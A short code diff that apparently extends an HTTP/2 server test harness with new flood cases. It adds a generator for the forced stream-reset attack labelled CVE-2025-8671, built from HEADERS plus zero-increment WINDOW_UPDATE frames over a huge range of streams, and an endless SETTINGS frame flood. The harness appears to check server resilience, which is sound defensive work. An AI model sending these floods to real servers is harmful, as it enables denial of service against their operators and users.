@@ -99,6 +99,15 @@ def resets():
             for stream in range(begin, begin + 2000, 2))
 
 
+def made_resets():
+    """Requests that the server itself has to reset, as RFC 9113 (6.9) says: CVE-2025-8671."""
+    for begin in range(1, 2**31 - 2000, 2000):
+        yield b"".join(
+            frame(HEADERS, END_HEADERS | END_STREAM, stream, head("/forever"))
+            + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))
+            for stream in range(begin, begin + 2000, 2))
+
+
 def forever(piece):
     def more():
         while True:
@@ -116,6 +125,8 @@ FIELD = b"\x00\x01x\x7f\xad\x01" + b"a" * 300
 # What is sent first, what goes on until the server ends the connection, and the room of each stream.
 FLOODS = {
     "requests that are reset at once": (b"", resets, None),
+    "requests that the server has to reset": (b"", made_resets, None),
+    "settings whose answers nobody reads": (b"", forever(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 5000), None),
     "header fields without an end": (
         frame(HEADERS, END_STREAM, 1, head("/plain")), forever(frame(CONTINUATION, 0, 1, FIELD * 50) * 20), None),
     "empty parts of a body": (
